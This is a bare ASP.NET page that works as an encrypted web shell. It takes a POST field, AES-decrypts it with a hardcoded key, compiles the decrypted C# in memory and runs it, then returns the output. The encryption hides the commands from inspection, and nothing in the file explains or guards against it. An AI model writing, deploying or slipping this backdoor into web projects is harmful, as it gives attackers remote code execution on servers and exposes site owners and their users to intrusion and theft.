<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    string body = Request.Form["data"];
    if (String.IsNullOrEmpty(body)) return;
    byte[] k = Encoding.UTF8.GetBytes("6bc1bee22e409f96");
    byte[] raw = Convert.FromBase64String(body);
    string src = Encoding.UTF8.GetString(new AesCryptoServiceProvider().CreateDecryptor(k, k).TransformFinalBlock(raw, 0, raw.Length));
    CodeDomProvider cdp = CodeDomProvider.CreateProvider("CSharp");
    CompilerParameters opts = new CompilerParameters { GenerateInMemory = true };
    CompilerResults r = cdp.CompileAssemblyFromSource(opts, src);
    Response.Write(r.CompiledAssembly.GetType("R").GetMethod("Run").Invoke(null, null));
}
</script>
